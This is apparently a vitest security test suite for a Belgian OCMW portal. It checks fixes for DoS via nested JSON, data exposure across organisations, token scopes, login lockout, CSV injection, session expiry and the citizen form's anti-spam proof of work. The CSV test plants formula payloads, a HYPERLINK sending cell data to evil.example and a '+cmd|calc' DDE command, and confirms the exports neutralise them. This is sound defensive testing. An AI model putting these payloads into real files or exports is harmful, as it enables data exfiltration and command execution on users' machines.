/**
 * Issue 17: the findings of the attack review, one describe each. Every test here failed on the
 * code before its fix; docs/SECURITY.md ("Hardening (issue 17)") says what each one proves.
 */
import { createHash } from 'node:crypto';
import { performance } from 'node:perf_hooks';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import type { Runtime } from '../src/bootstrap.js';
import { runInstitutionCommand, type InstitutionCliOptions } from '../src/cli/institution.js';
import { queryRows } from '../src/db/db.js';
import { buildApp } from '../src/app.js';
import { createClock } from '../src/domain/clock.js';
import { DEFAULT_POW_MAX_NUMBER, PROOF_TTL_MS, solveProof } from '../src/modules/help-requests/index.js';
import { LANGUAGE_SEPARATOR } from '../src/modules/notifications/notifications.service.js';
import { createServices } from '../src/services.js';
import { throttleKey } from '../src/db/lockout.js';
import { passwordProblems } from '../src/modules/access/password-strength.js';
import { DEMO_PASSWORD } from '../src/seed/demo.js';
import { inszFromParts } from '../src/shared/identifiers.js';
import { makeCa, makeCertificate } from './certificates.js';
import { createTestContext, TestClient, type TestContext } from './test-app.js';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext({ env: { OCMW_INSZ_LOOKUPS_PER_HOUR: '60' } });
}, 60_000);
afterAll(async () => ctx?.close());

function errorOf(res: { statusCode: number; json(): unknown }) {
  return (res.json() as { error: { code: string; message: string; fields?: Record<string, string> } }).error;
}

describe('1. anonymous CPU exhaustion: nesting, body limits, timeouts', () => {
  it('refuses a body of nested brackets before parsing it, without a cookie: 400 naming the nesting, about as fast as a flat body', async () => {
    // A route with the 1 MiB limit (refused later for want of a session) and the citizen form (its own limit).
    for (const [url, size] of [['/api/v1/mergers', 1_000_000], ['/api/v1/public/help-requests', 40_000]] as const) {
      const nested = '['.repeat(size);
      const flat = JSON.stringify({ message: 'x'.repeat(size - 20) });
      const timed = async (payload: string) => {
        const t0 = performance.now();
        const res = await ctx.app.inject({ method: 'POST', url, payload, headers: { 'content-type': 'application/json' } });
        return { res, ms: performance.now() - t0 };
      };
      const deep = await timed(nested);
      const plain = await timed(flat);
      console.log(`${url}: nested ${size} B → ${deep.res.statusCode} in ${deep.ms.toFixed(1)} ms; flat ${size} B → ${plain.res.statusCode} in ${plain.ms.toFixed(1)} ms`);
      expect(deep.res.statusCode, url).toBe(400);
      expect(errorOf(deep.res).fields, url).toHaveProperty('body');
    }
  });

  it('accepts nesting up to OCMW_JSON_MAX_DEPTH and counts brackets inside strings as text', async () => {
    const res = await ctx.app.inject({
      method: 'POST',
      url: '/api/v1/session/login',
      payload: JSON.stringify({ username: '[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[', password: '{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{"\\' }),
      headers: { 'content-type': 'application/json' },
    });
    expect(res.statusCode).not.toBe(400);
  });

  it('gives the citizen form the body limit it needs: 64 KiB is refused with 413', async () => {
    const res = await ctx.app.inject({
      method: 'POST',
      url: '/api/v1/public/help-requests',
      payload: JSON.stringify({ message: 'x'.repeat(65 * 1024) }),
      headers: { 'content-type': 'application/json' },
    });
    expect(res.statusCode).toBe(413);
    expect(errorOf(res).code).toBe('payload_too_large');
  });

  it('sets request, header and keep-alive timeouts on the server from the configuration', async () => {
    const server = ctx.app.server;
    expect(server.requestTimeout).toBe(ctx.config.http.requestTimeoutMs);
    expect(server.headersTimeout).toBe(ctx.config.http.headersTimeoutMs);
    expect(server.keepAliveTimeout).toBe(ctx.config.http.keepAliveTimeoutMs);
    expect(server.requestTimeout).toBeLessThanOrEqual(30_000);
    expect(server.headersTimeout).toBeLessThanOrEqual(15_000);
  });
});

async function inszOf(username: string): Promise<string> {
  const rows = await queryRows<{ insz: string }>(ctx.database.db, sql`select insz from users where username = ${username}`);
  return rows[0]!.insz;
}

describe('2. the person directory across organisations', () => {
  it('shows another organisation’s manager only the name of a person known elsewhere: no username, e-mail, title, language or id', async () => {
    const tb = ctx.client();
    const mw = (await tb.loginAs('tb.antwerpen')).context.domain.id as string;
    const insz = await inszOf('tb.hoeselt');
    const lookup = (await tb.post(`/api/v1/access/domains/${mw}/persons/lookup`, { insz })).json();
    expect(lookup).toEqual({ insz, exists: true, surname: expect.any(String), firstName: expect.any(String), isMember: false });
    const review = await tb.post(`/api/v1/access/domains/${mw}/users/validate`, { insz, type: 'USER', applications: ['ebox'] });
    expect(review.statusCode).toBe(200);
    console.log('what OCMW Antwerpen’s TB sees of a Hoeselt person (users/validate):', review.body);
    const person = review.json().person;
    expect(person).toMatchObject({ isNew: false, username: null, title: null, language: null, email: null });
    expect(review.json().userId).toBeNull();
    expect(review.body).not.toContain('tb.hoeselt');

    // After adding the person to its own domain, the TB still does not read their private e-mail.
    expect((await tb.post(`/api/v1/access/domains/${mw}/users`, { insz, type: 'USER', applications: ['ebox'] })).statusCode).toBe(201);
    const list = (await tb.get(`/api/v1/access/domains/${mw}/users?username=tb.hoeselt`)).json();
    expect(list.items[0]).toMatchObject({ username: 'tb.hoeselt', email: null });
    const own = (await tb.get(`/api/v1/access/domains/${mw}/users?username=user.antwerpen`)).json();
    expect(own.items[0].email).toEqual(expect.stringContaining('@'));
  });

  it('audits each INSZ look-up and refuses more than OCMW_INSZ_LOOKUPS_PER_HOUR per user with 429', async () => {
    const tb = ctx.client();
    const domain = (await tb.loginAs('tb.beveren')).context.domain.id as string;
    const limit = ctx.config.inszLookupsPerHour;
    for (let n = 1; n <= limit; n++) {
      const res = await tb.post(`/api/v1/access/domains/${domain}/persons/lookup`, { insz: inszFromParts('800101', n) });
      expect(res.statusCode, `look-up ${n}`).toBe(200);
    }
    const refused = await tb.post(`/api/v1/access/domains/${domain}/persons/lookup`, { insz: inszFromParts('800101', limit + 1) });
    expect(refused.statusCode).toBe(429);
    const validate = await tb.post(`/api/v1/access/domains/${domain}/users/validate`, { insz: inszFromParts('800101', 998), type: 'USER', applications: [] });
    expect(validate.statusCode, validate.body).toBe(429);
    const [audited] = await queryRows<{ n: number }>(
      ctx.database.db,
      sql`select count(*)::int as n from audit_log a join users u on u.id = a.actor_user_id where u.username = 'tb.beveren' and a.action = 'person.lookup'`,
    );
    expect(audited!.n).toBe(limit);
  });
});

describe('3. machine credentials: scopes, expiry, revocation, institutions only, each use recorded', () => {
  const orgIdByName = async (name: string) =>
    (await queryRows<{ id: string; kbo: string }>(ctx.database.db, sql`select id, kbo from organisations where name_nl = ${name}`))[0]!;
  const cli = async (args: string[], options: Partial<InstitutionCliOptions> = {}) => {
    const lines: string[] = [];
    const code = await runInstitutionCommand({ services: ctx.services } as unknown as Runtime, args, { json: true, lang: 'en', ...options }, (t) => lines.push(t));
    return { code, json: JSON.parse(lines.join('\n')) };
  };
  const mutation = async (token: string) =>
    ctx.app.inject({
      method: 'POST',
      url: '/api/v1/institution/mutations',
      payload: { mutations: [{ type: 'MURN', insz: inszFromParts('800101', 7), occurredAt: '2026-03-11T10:00:00Z', payload: {} }] },
      headers: { authorization: `Bearer ${token}` },
    });
  const ebox = async (token: string, rsz: boolean) =>
    ctx.app.inject({
      method: 'POST',
      url: '/api/v1/institution/ebox/documents',
      payload: { recipientKbo: '0212235604', title: 'Afrekening', category: 'Afrekeningen', messageType: 'NovaPrima', documentDate: '2026-03-01', body: 'Tekst', rsz },
      headers: { authorization: `Bearer ${token}` },
    });

  it('gives tokens only to institutions, only with known scopes', async () => {
    const cevi = await orgIdByName('Cevi - Logins');
    const rsz = await orgIdByName('Rijksdienst voor Sociale Zekerheid (RSZ)');
    const refusedVendor = await cli(['token', cevi.kbo, 'vendor'], { scope: 'mutations:write' });
    expect(refusedVendor.code).toBe(1);
    // Issue 18: the service throws keys; the CLI's one edge renders them in --lang.
    expect(refusedVendor.json.error).toBe('Only an institution (kind "institution") gets a machine credential.');
    expect((await cli(['token', cevi.kbo, 'vendor'], { scope: 'mutations:write', lang: 'fr' })).json.error).toBe('Seule une institution (kind "institution") reçoit une clé machine.');
    expect((await cli(['token', rsz.kbo, 'bad'], { scope: 'mutations:write,everything' })).code).toBe(1);
    const made = await cli(['token', rsz.kbo, 'RSZ', 'mutaties'], { scope: 'mutations:write', expiresDays: '30' });
    expect(made.code).toBe(0);
    expect(made.json).toEqual({ id: expect.any(String), token: expect.stringMatching(/^ocmw_/), scopes: ['mutations:write'], expiresAt: expect.any(String) });
  });

  it('lets a token do only what its scopes say: mutations, e-Box, RSZ documents', async () => {
    const rsz = await orgIdByName('Rijksdienst voor Sociale Zekerheid (RSZ)');
    const mutationsOnly = (await cli(['token', rsz.kbo, 'm'], { scope: 'mutations:write' })).json.token as string;
    const eboxOnly = (await cli(['token', rsz.kbo, 'e'], { scope: 'ebox:publish' })).json.token as string;
    const eboxRsz = (await cli(['token', rsz.kbo, 'r'], { scope: 'ebox:publish,ebox:publish-rsz' })).json.token as string;
    expect((await mutation(mutationsOnly)).statusCode).toBe(200);
    expect((await ebox(mutationsOnly, false)).statusCode).toBe(403);
    expect((await mutation(eboxOnly)).statusCode).toBe(403);
    expect((await ebox(eboxOnly, false)).statusCode).toBe(201);
    expect((await ebox(eboxOnly, true)).statusCode).toBe(403);
    expect((await ebox(eboxRsz, true)).statusCode).toBe(201);
  });

  it('refuses an expired or revoked token with 401 at once; lists tokens without the secret, with their uses', async () => {
    const rsz = await orgIdByName('Rijksdienst voor Sociale Zekerheid (RSZ)');
    const made = (await cli(['token', rsz.kbo, 'kort'], { scope: 'mutations:write', expiresDays: '1' })).json as { id: string; token: string };
    expect((await mutation(made.token)).statusCode).toBe(200);
    await ctx.database.db.execute(sql`update api_clients set expires_at = now() - interval '1 second' where id = ${made.id}`);
    expect((await mutation(made.token)).statusCode).toBe(401);

    const other = (await cli(['token', rsz.kbo, 'intrekken'], { scope: 'mutations:write' })).json as { id: string; token: string };
    expect((await mutation(other.token)).statusCode).toBe(200);
    expect((await cli(['token', 'revoke', other.id])).json).toEqual({ id: other.id, revoked: true });
    expect((await mutation(other.token)).statusCode).toBe(401);

    const listed = (await cli(['token', 'list', rsz.kbo])).json.tokens as { id: string; uses: number; revokedAt: string | null }[];
    expect(JSON.stringify(listed)).not.toContain(other.token);
    expect(listed.find((t) => t.id === other.id)).toMatchObject({ uses: 1, revokedAt: expect.any(String) });
  });

  it('records each use with the token id, and which token delivered each mutation', async () => {
    const rsz = await orgIdByName('Rijksdienst voor Sociale Zekerheid (RSZ)');
    const made = (await cli(['token', rsz.kbo, 'spoor'], { scope: 'mutations:write' })).json as { id: string; token: string };
    expect((await mutation(made.token)).statusCode).toBe(200);
    const uses = await queryRows<{ method: string; route: string }>(ctx.database.db, sql`select method, route from api_client_uses where client_id = ${made.id}`);
    expect(uses).toEqual([{ method: 'POST', route: '/api/v1/institution/mutations' }]);
    const [delivered] = await queryRows<{ n: number }>(ctx.database.db, sql`select count(*)::int as n from mutations where api_client_id = ${made.id}`);
    expect(delivered!.n).toBe(1);
  });
});

describe('7. login lockout: alike for every name, a growing delay per name and source', () => {
  const attempt = async (username: string, password: string, source: string) => {
    const c = ctx.client();
    await c.get('/api/v1/session');
    return c.request({ method: 'POST', url: '/api/v1/session/login', payload: { username, password }, remoteAddress: source });
  };
  const answers = async (username: string, source: string) => {
    const out: string[] = [];
    for (let i = 0; i < 7; i++) {
      const res = await attempt(username, 'Fout-wachtwoord-123', source);
      out.push(`${res.statusCode} ${res.json().error.code}`);
    }
    return out;
  };

  it('answers a real and an unknown username alike, attempt after attempt', async () => {
    const real = await answers('tb.antwerpen', '10.7.0.1');
    const unknown = await answers('bestaat.niet', '10.7.0.1');
    expect(real).toEqual(unknown);
    expect(real.slice(0, 4).every((a) => a === '401 unauthenticated')).toBe(true);
    expect(real.at(-1)).toBe('429 rate_limited');
  });

  it('slows the attacking source down without locking the real user out elsewhere, with a delay that grows', async () => {
    await answers('cotb.antwerpen', '10.7.0.2');
    // The real user, from their own address, logs in at once with the right password.
    expect((await attempt('cotb.antwerpen', DEMO_PASSWORD, '10.7.0.3')).statusCode).toBe(200);
    // From the attacking source the pair stays closed, and each new failure doubles the delay.
    const key = throttleKey('person', 'cotb.antwerpen', '10.7.0.2');
    const lock = async () => (await queryRows<{ s: number }>(ctx.database.db, sql`select extract(epoch from (locked_until - last_attempt_at))::int as s from login_throttles where key = ${key}`))[0]!.s;
    const first = await lock();
    await ctx.database.db.execute(sql`update login_throttles set locked_until = now() - interval '1 second' where key = ${key}`);
    expect((await attempt('cotb.antwerpen', 'Fout-wachtwoord-123', '10.7.0.2')).statusCode).toBe(401);
    expect(await lock()).toBe(Math.min(first * 2, ctx.config.loginLockMinutes * 60));
    expect((await attempt('cotb.antwerpen', DEMO_PASSWORD, '10.7.0.2')).statusCode).toBe(429);
  });
});

describe('4. CSV formula injection', () => {
  it('neutralises a name written as a formula in the user list and the audit CSV exports', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
    const user = ctx.client();
    await user.loginAs('user.antwerpen');
    const me = (await user.get('/api/v1/me')).json();
    const saved = await user.request({ method: 'PUT', url: '/api/v1/me', payload: { surname: formula, firstName: '+cmd|calc', title: me.title, language: me.language, email: me.email } });
    expect(saved.statusCode, saved.body).toBe(200);

    const tb = ctx.client();
    const mw = (await tb.loginAs('tb.antwerpen')).context.domain.id as string;
    const list = (await tb.get(`/api/v1/access/domains/${mw}/users/export?format=csv&username=user.antwerpen`)).body;
    const htb = ctx.client();
    await htb.loginAs('htb.antwerpen');
    const audit = (await htb.get('/api/v1/access/audit/export?format=csv')).body;
    for (const csv of [list, audit]) {
      const cells = csv.split(/[;\n]/).map((c) => c.replace(/^"|"$/g, ''));
      expect(cells.some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
    }
    expect(list).toContain(`'=HYPERLINK`);
    expect(list).toContain(`'+cmd|calc`);
  });
});

describe('10. sessions have an absolute lifetime', () => {
  let timed: TestContext;
  let wall = new Date('2026-03-02T08:00:00Z');
  beforeAll(async () => {
    timed = await createTestContext({ now: () => wall });
  }, 60_000);
  afterAll(async () => timed?.close());

  it('ends a session OCMW_SESSION_MAX_HOURS (12 h) after login, however active, also across an organisation choice', async () => {
    expect(timed.config.sessionMaxHours).toBe(12);
    const person = timed.client();
    await person.loginAs('an.peeters', 'Antwerpen');
    for (const hours of [3, 6, 9, 11]) {
      wall = new Date(Date.parse('2026-03-02T08:00:00Z') + hours * 3_600_000);
      expect((await person.get('/api/v1/session')).json().user?.username, `after ${hours} h`).toBe('an.peeters');
    }
    // A new id at an organisation choice keeps the login time.
    const { choices } = (await person.get('/api/v1/session')).json();
    const borsbeek = choices.find((c: { organisation: { name: { nl: string } } | null }) => c.organisation?.name.nl.includes('Borsbeek'));
    expect((await person.post('/api/v1/session/context', { choiceId: borsbeek.id })).statusCode).toBe(200);
    wall = new Date(Date.parse('2026-03-02T08:00:00Z') + 12 * 3_600_000 + 60_000);
    const after = await person.get('/api/v1/me');
    expect(after.statusCode).toBe(401);
  });
});

describe('6. certificate conflicts', () => {
  it('tells the uploader only that the certificate cannot be used, and tells the platform administrator', async () => {
    const now = Date.now();
    const c = await makeCertificate({ key: 'EC-P-384', hash: 'SHA-384', issuer: await makeCa({ key: 'RSA-2048' }), notBefore: new Date(now - 86_400_000), notAfter: new Date(now + 300 * 86_400_000), keyUsage: ['digitalSignature'] });
    const certificate = { fileName: 'soap.cer', contentBase64: Buffer.from(c.der).toString('base64') };
    const owner = ctx.client();
    await owner.loginAs('tb.antwerpen');
    expect((await owner.post('/api/v1/chaman/accounts/soap', { name: 'SOAP eigen', certificateName: 'eigen', certificate })).statusCode).toBe(201);

    const other = ctx.client();
    await other.loginAs('tb.beveren');
    const sender = { contactName: 'Els Claes', phoneCode: '+32', phoneNumber: '456986533', email: 'ict@beveren.demo.example', language: 'nl' };
    expect((await other.request({ method: 'PUT', url: '/api/v1/chaman/sender', payload: sender })).statusCode).toBe(200);
    const res = await other.post('/api/v1/chaman/accounts/soap', { name: 'SOAP geleend', certificateName: 'geleend', certificate });
    expect(res.statusCode).toBe(409);
    const fingerprint = createHash('sha256').update(c.der).digest('hex');
    const text = res.body.toLowerCase();
    expect(text).not.toContain(fingerprint.slice(0, 8));
    expect(text).not.toContain(fingerprint.slice(0, 8).match(/../g)!.join(':'));
    expect(text).not.toMatch(/actief|ander account|antwerpen/);
    expect(res.json().error).toMatchObject({
      message: 'Dit certificaat kan niet gebruikt worden: laad een ander certificaat op.',
      fields: { certificate: 'Dit certificaat kan niet gebruikt worden: laad een ander certificaat op.' },
    });
    // Issue 18: the service throws a key; the same refusal in the uploader's language. From here
    // the administrator reads French: the next alerts are written in French only.
    await queryRows(ctx.database.db, sql`update users set language = 'fr' where username = 'admin'`);
    for (const [language, sentence] of [
      ['fr', 'Ce certificat ne peut pas être utilisé : chargez un autre certificat.'],
      ['de', 'Dieses Zertifikat kann nicht verwendet werden: Laden Sie ein anderes Zertifikat hoch.'],
    ] as const) {
      other.language = language;
      const again = await other.post('/api/v1/chaman/accounts/soap', { name: 'SOAP geleend', certificateName: 'geleend', certificate });
      expect(again.statusCode).toBe(409);
      expect(again.json().error.message).toBe(sentence);
    }
    other.language = 'nl';

    // The administrator's alert is keys written by the mail renderer in the administrator's own
    // language: Dutch for the first conflict, French once the administrator reads French.
    await queryRows(ctx.database.db, sql`update users set language = 'nl' where username = 'admin'`);
    const admin = ctx.client();
    await admin.loginAs('admin');
    const mails = (await admin.get('/api/v1/admin/mails')).json();
    const items = (Array.isArray(mails) ? mails : mails.items) as { id: string; subject: string; kind?: string }[];
    const alerts = items.filter((m) => m.kind === 'admin.alert');
    const dutch = alerts.find((m) => m.subject === 'ChaMan-conflict: een certificaat dat al in gebruik is, werd opnieuw opgeladen');
    const french = alerts.find((m) => m.subject === 'Conflit ChaMan : un certificat déjà utilisé a été chargé à nouveau');
    expect(dutch, JSON.stringify(alerts.map((a) => a.subject))).toBeDefined();
    expect(french, JSON.stringify(alerts.map((a) => a.subject))).toBeDefined();
    const body = async (id: string) => (await queryRows<{ body: string }>(ctx.database.db, sql`select body_text as body from mails where id = ${id}`))[0]!.body;
    const nl = await body(dutch!.id);
    const fr = await body(french!.id);
    expect(nl).not.toContain(LANGUAGE_SEPARATOR);
    expect(fr).not.toContain(LANGUAGE_SEPARATOR);
    expect(nl).toContain('Een organisatie probeerde in ChaMan een certificaat te registreren dat al actief is op een ander account.');
    expect(nl).toMatch(/\nOrganisatie: OCMW Beveren \(\d{4}\.\d{3}\.\d{3}\); gebruiker-id [0-9a-f-]{36}\.\n/);
    expect(nl).toContain(`Vingerafdruk (SHA-256): ${fingerprint.toUpperCase().match(/../g)!.join(':')}`);
    expect(fr).toContain("Une organisation a tenté d'enregistrer dans ChaMan un certificat déjà actif sur un autre compte.");
    expect(fr).toMatch(/\nOrganisation : CPAS Beveren \(\d{4}\.\d{3}\.\d{3}\) ; identifiant de l'utilisateur [0-9a-f-]{36}\.\n/);
    expect(`${nl}${fr}`).not.toMatch(/\{\w+\}/);
  });
});

describe('8. password policy', () => {
  it('refuses a password close to the username and a guessable one at a password change; the demo password passes', async () => {
    const me = ctx.client();
    await me.loginAs('cotb.antwerpen');
    const change = (newPassword: string) =>
      me.request({ method: 'POST', url: '/api/v1/me/password', payload: { currentPassword: DEMO_PASSWORD, newPassword, newPasswordConfirm: newPassword } });
    for (const weak of ['cotb.antwerpen1!', 'wachtwoord1234']) {
      const res = await change(weak);
      expect(res.statusCode, weak).toBe(400);
      expect(res.json().error.fields, weak).toHaveProperty('newPassword');
    }
    expect(await passwordProblems(DEMO_PASSWORD, { username: 'htb.antwerpen' })).toEqual([]);
  });
});

describe('9. the citizen form relays no mail', () => {
  let limited: TestContext;
  beforeAll(async () => {
    limited = await createTestContext({ env: { OCMW_CITIZEN_SUBMISSIONS_PER_HOUR: '5', OCMW_CITIZEN_MAILS_PER_ADDRESS_PER_DAY: '2' } });
  }, 60_000);
  afterAll(async () => limited?.close());
  const form = (email: string) => ({
    language: 'nl',
    kinds: ['leefloon'],
    postcode: '2000',
    surname: 'Koop nu: http://spam.example',
    firstName: 'GRATIS',
    email,
    message: 'Bezoek http://spam.example voor goedkope pillen',
  });
  const submit = async (email: string, source: string) => {
    const c = limited.client();
    await c.get('/api/v1/session');
    return c.request({ method: 'POST', url: '/api/v1/public/help-requests', payload: await c.proven(form(email)), remoteAddress: source });
  };
  const acknowledgements = (to: string) =>
    queryRows<{ body: string }>(limited.database.db, sql`select body_text as body from mails where kind = 'online-acknowledgement' and to_address = ${to}`);

  it('keeps the citizen’s text out of the acknowledgement and sends at most OCMW_CITIZEN_MAILS_PER_ADDRESS_PER_DAY to one address', async () => {
    for (const source of ['10.9.0.1', '10.9.0.2', '10.9.0.3']) expect((await submit('slachtoffer@elders.example', source)).statusCode).toBe(201);
    const sent = await acknowledgements('slachtoffer@elders.example');
    expect(sent).toHaveLength(2);
    for (const m of sent) expect(m.body).not.toMatch(/spam|GRATIS|pillen/);
  });

  it('limits submissions per source address: OCMW_CITIZEN_SUBMISSIONS_PER_HOUR, then 429', async () => {
    const answers = [];
    for (let i = 0; i < 6; i++) answers.push((await submit(`burger${i}@burger.example`, '10.9.1.1')).statusCode);
    expect(answers).toEqual([201, 201, 201, 201, 201, 429]);
    expect((await submit('ander@burger.example', '10.9.1.2')).statusCode).toBe(201);
  });
});

describe('9. the citizen form has an anti-automation check: a proof of work, without a third party or a cookie', () => {
  let pow: TestContext;
  let wall = Date.now();
  beforeAll(async () => {
    pow = await createTestContext({ now: () => new Date(wall) });
  }, 60_000);
  afterAll(async () => pow?.close());
  const form = {
    language: 'nl',
    kinds: ['energie'],
    postcode: '2000',
    surname: 'Peeters',
    firstName: 'An',
    email: 'an.peeters@burger.example',
    message: 'Mijn energiefactuur is te hoog.',
  };
  const citizen = async (app = pow.app) => {
    const c = new TestClient(app);
    await c.get('/api/v1/session');
    return c;
  };
  const challengeOf = async (c: TestClient) => (await c.get('/api/v1/public/help-requests/challenge')).json();
  /** What a refused submission must leave alone: requests, their events, mails, used challenges. */
  const state = async () =>
    (
      await queryRows<{ requests: number; events: number; mails: number; spent: number }>(
        pow.database.db,
        sql`select (select count(*)::int from help_requests) as requests, (select count(*)::int from help_request_events) as events,
                   (select count(*)::int from mails) as mails, (select count(*)::int from citizen_proofs_spent) as spent`,
      )
    )[0]!;
  const refusedAtProof = async (res: { statusCode: number; json(): unknown }, before: Awaited<ReturnType<typeof state>>, message?: RegExp) => {
    expect(res.statusCode).toBe(400);
    const error = errorOf(res);
    expect(error.code).toBe('validation');
    const fields = Object.keys(error.fields ?? {});
    expect(fields.length).toBeGreaterThan(0);
    for (const field of fields) expect(field).toMatch(/^proof(\.|$)/);
    if (message) expect(error.fields!.proof).toMatch(message);
    expect(await state()).toEqual(before);
  };

  it('hands out a signed challenge anonymously, sets no cookie and lets no cache keep it', async () => {
    const res = await pow.app.inject({ method: 'GET', url: '/api/v1/public/help-requests/challenge' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['set-cookie']).toBeUndefined();
    expect(res.headers['cache-control']).toBe('no-store');
    const c = res.json();
    expect(c).toMatchObject({ algorithm: 'SHA-256', maxnumber: pow.config.citizen.proof.maxNumber });
    expect(c.challenge).toMatch(/^[0-9a-f]{64}$/);
    expect(c.signature).toMatch(/^[0-9a-f]{64}$/);
    expect(Date.parse(c.expiresAt) - wall).toBeGreaterThan(PROOF_TTL_MS - 2_000);
    expect(Date.parse(c.expiresAt) - wall).toBeLessThanOrEqual(PROOF_TTL_MS);
    expect((await pow.app.inject({ method: 'GET', url: '/api/v1/public/help-requests/challenge' })).json().challenge).not.toBe(c.challenge);
  });

  it('refuses a submission without a proof: 400 naming the field, nothing filed', async () => {
    const c = await citizen();
    const before = await state();
    await refusedAtProof(await c.post('/api/v1/public/help-requests', form), before);
  });

  it('refuses malformed proofs: 400 naming the field, nothing filed', async () => {
    const c = await citizen();
    const good = solveProof(await challengeOf(c))!;
    const before = await state();
    for (const proof of [
      'not-an-object',
      {},
      { ...good, number: -1 },
      { ...good, number: 1.5 },
      { ...good, challenge: 'zz' },
      { ...good, algorithm: 'SHA-1' },
      { ...good, extra: 1 },
      { ...good, salt: 'x'.repeat(500) },
    ]) {
      await refusedAtProof(await c.post('/api/v1/public/help-requests', { ...form, proof }), before);
    }
    // The same form with the well-formed solution files: the refusals were about the proof's shape.
    expect((await c.post('/api/v1/public/help-requests', { ...form, proof: good })).statusCode).toBe(201);
  });

  it('refuses a wrong solution, a forged signature and a moved expiry: 400 naming the field, nothing filed', async () => {
    const c = await citizen();
    const challenge = await challengeOf(c);
    const good = solveProof(challenge)!;
    const before = await state();
    const wrongNumber = { ...good, number: good.number === 0 ? 1 : good.number - 1 };
    // Someone else's key: a challenge made and solved without the portal's secret.
    const { createChallenge } = await import('altcha-lib/v1');
    const foreign = await createChallenge({ hmacKey: 'een-andere-sleutel-van-minstens-32-tekens', maxNumber: 10, expires: new Date(wall + 60_000) });
    const forged = solveProof({ ...foreign, maxnumber: 10 })!;
    // The expiry lives in the signed salt: a later one no longer matches the challenge.
    const later = good.salt.replace(/expires=(\d+)/, (_m, s: string) => `expires=${Number(s) + 3600}`);
    for (const proof of [wrongNumber, forged, { ...good, salt: later }, { ...good, signature: good.signature.replace(/^./, (ch) => (ch === '0' ? '1' : '0')) }]) {
      await refusedAtProof(await c.post('/api/v1/public/help-requests', { ...form, proof }), before, /klopt niet/);
    }
  });

  it('refuses an expired solution (10 minutes after the challenge): 400 naming the field, nothing filed', async () => {
    const c = await citizen();
    const proof = solveProof(await challengeOf(c))!;
    const before = await state();
    wall += PROOF_TTL_MS + 1_000;
    try {
      await refusedAtProof(await c.post('/api/v1/public/help-requests', { ...form, proof }), before, /verlopen/);
    } finally {
      wall = Date.now();
    }
  });

  it('files with a valid solution; a form error does not use the solution up', async () => {
    const c = await citizen();
    const proof = solveProof(await challengeOf(c))!;
    const before = await state();
    const unknown = await c.post('/api/v1/public/help-requests', { ...form, postcode: '0001', proof });
    expect(unknown.statusCode).toBe(400);
    expect(errorOf(unknown).fields).toHaveProperty('postcode');
    expect(await state()).toEqual(before);
    const filed = await c.post('/api/v1/public/help-requests', { ...form, proof });
    expect(filed.statusCode).toBe(201);
    expect((await state()).requests).toBe(before.requests + 1);
  });

  it('refuses a replayed solution, also on another instance on the same database and when sent twice at once', async () => {
    // A second instance: its own app and services on the same database, nothing shared in memory.
    const config = pow.config;
    const clock = createClock({ fixedToday: config.fixedToday, now: () => new Date(wall) });
    const other = await buildApp({ config, database: pow.database, services: createServices({ db: pow.database.db, clock, config }), clock });
    await other.ready();
    try {
      const a = await citizen();
      const b = await citizen(other);
      // A challenge from one instance is solved for the other (the key is shared through the database).
      const proof = solveProof(await challengeOf(b))!;
      expect((await a.post('/api/v1/public/help-requests', { ...form, proof })).statusCode).toBe(201);
      const before = await state();
      await refusedAtProof(await a.post('/api/v1/public/help-requests', { ...form, proof }), before, /al gebruikt/);
      await refusedAtProof(await b.post('/api/v1/public/help-requests', { ...form, proof }), before, /al gebruikt/);

      const twice = solveProof(await challengeOf(a))!;
      const answers = await Promise.all([a.post('/api/v1/public/help-requests', { ...form, proof: twice }), b.post('/api/v1/public/help-requests', { ...form, proof: twice })]);
      expect(answers.map((r) => r.statusCode).sort()).toEqual([201, 400]);
      expect((await state()).requests).toBe(before.requests + 1);
    } finally {
      await other.close();
    }
  });

  it('forgets used solutions once they have expired (housekeeping), and only those', async () => {
    const db = pow.database.db;
    await queryRows(db, sql`insert into citizen_proofs_spent (signature, expires_at) values ('oud', ${new Date(wall - 1000).toISOString()}::timestamptz), ('nieuw', ${new Date(wall + 60_000).toISOString()}::timestamptz)`);
    expect(await pow.services.helpRequests.purgeSpentProofs()).toBeGreaterThanOrEqual(1);
    const left = await queryRows<{ signature: string }>(db, sql`select signature from citizen_proofs_spent where signature in ('oud', 'nieuw')`);
    expect(left.map((r) => r.signature)).toEqual(['nieuw']);
  });

  it('costs a script real work at the default difficulty (the time is logged)', async () => {
    expect(DEFAULT_POW_MAX_NUMBER).toBeGreaterThanOrEqual(50_000);
    const { createProofOfWork } = await import('../src/modules/help-requests/citizen-proof.js');
    const work = createProofOfWork({ secret: async () => 'x'.repeat(32), maxNumber: DEFAULT_POW_MAX_NUMBER, now: () => new Date() });
    const times: number[] = [];
    for (let i = 0; i < 10; i++) {
      const c = await work.challenge();
      const t0 = performance.now();
      const solution = solveProof(c)!;
      times.push(performance.now() - t0);
      expect(await work.check(solution)).toMatchObject({ ok: true });
    }
    times.sort((x, y) => x - y);
    console.log(`proof of work at OCMW_POW_MAX_NUMBER=${DEFAULT_POW_MAX_NUMBER}, Node native SHA-256: median ${times[5]!.toFixed(0)} ms, max ${times[9]!.toFixed(0)} ms over 10 challenges`);
  });
});
